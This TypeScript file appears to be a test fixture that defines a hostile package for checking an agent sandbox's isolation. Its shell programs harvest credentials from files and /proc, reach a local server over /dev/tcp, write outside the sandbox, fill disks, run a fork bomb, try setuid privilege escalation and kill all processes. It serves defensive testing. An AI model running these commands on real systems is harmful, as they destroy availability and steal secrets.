import type { PackageFile } from './packages.js';
import { shellProgram } from './packages.js';

export interface Surroundings {
  /** The agent's directory. */
  readonly folder: string;
  readonly serverPort: number;
  readonly marker: string;
}

/** Reaches a server by nothing but the shell; it works outside of the sandbox. */
export const reachScript = (port: number): string =>
  `exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET /api/v1/agents HTTP/1.0\\r\\n\\r\\n' >&3 && head -1 <&3`;

/** Programs of a vendor who attacks; each prints what it got. */
export function hostilePackage({ folder, serverPort, marker }: Surroundings): Record<string, PackageFile> {
  return {
    'bin/read-credential': shellProgram(`
      cat ${folder}/credential.json ../../../../..${folder}/credential.json /proc/*/root${folder}/credential.json /proc/*/cwd/credential.json
      ls -laR ${folder}
      for p in /proc/[0-9]* /proc/self /proc/thread-self; do
        tr '\\0' '\\n' <$p/environ; tr '\\0' '\\n' <$p/cmdline; for f in $p/fd/*; do readlink $f; timeout 0.1 head -c 4096 $f </dev/null; done
      done
      find / -name 'credential*' -not -path '/usr/*' -not -path '/proc/*'
      find / -name 'attempt.json' -o -name 'allowed-digests' -not -path '/proc/*'
      env; set`),
    'bin/reach-server': shellProgram(reachScript(serverPort)),
    'bin/write-outside': shellProgram(`
      for f in ${folder}/evil /evil /etc/evil /usr/evil /usr/bin/evil ../evil ../../evil /proc/sys/kernel/hostname; do
        echo ${marker} >$f && echo "wrote $f"
      done
      mkdir -p ${folder} && echo "made ${folder}"
      ln -s / root; echo ${marker} >root/etc/evil && echo wrote through a link
      mv /scratch /elsewhere && echo moved; true`),
    'bin/outlive': shellProgram(`
      trap '' TERM HUP INT
      for i in 1 2 3; do
        (setsid nohup bash -c 'trap "" TERM HUP; (exec -a ${marker} sleep 1000) & exec -a ${marker} sleep 1000' >/dev/null 2>&1 &)
      done
      sleep 0.5; echo escaped`),
    'bin/fill-disk': shellProgram(`
      for n in 1 2 3 4; do for d in /scratch /tmp /dev/shm /var/tmp /run /home; do dd if=/dev/zero of=$d/fill$n bs=1M; done; done
      unshare --user --map-root-user --mount bash -c 'mount -t tmpfs x /tmp && for n in 1 2 3 4 5 6 7 8; do
        dd if=/dev/zero of=/tmp/fill$n bs=1M count=8 || exit 1; done; echo filled another'
      du -sm --total /scratch /tmp /dev/shm | tail -1; rm -rf /scratch/fill* /tmp/fill* /dev/shm/fill*; true`),
    'bin/bomb': { text: `#!/bin/sh\nb() { b | b & }; b; sleep 1; exit 0\n` },
    'bin/flood': shellProgram('yes 0123456789012345678901234567890123456789'),
    'bin/escapes': shellProgram(
      `printf '\\033]0;owned\\007\\033[2J\\033[31mred\\r\\nnext\\0\\xe2\\x80\\xae\\xff\\n'; printf '\\x9b31m' >&2`,
    ),
    'bin/become-root': shellProgram(`
      cp /bin/bash b; chmod 6755 b; ./b -p -c 'id -u'
      for f in $(find /usr -perm -4000 -type f 2>/dev/null); do echo | timeout 2 $f --help >/dev/null 2>&1; done
      su -c 'id -u' </dev/null; grep CapEff /proc/self/status; id -u`),
    'bin/kill-all': shellProgram('kill -9 -1; for p in /proc/[0-9]*; do kill -9 ${p#/proc/}; done'),
    'bin/stop-itself': shellProgram('echo stopping; kill -STOP $$'),
    'bin/kill-for-ever': shellProgram('(while :; do kill -9 -1; done) & sleep 0.2; exit 0'),
    'bin/ok': shellProgram('echo still here'),
  };
}
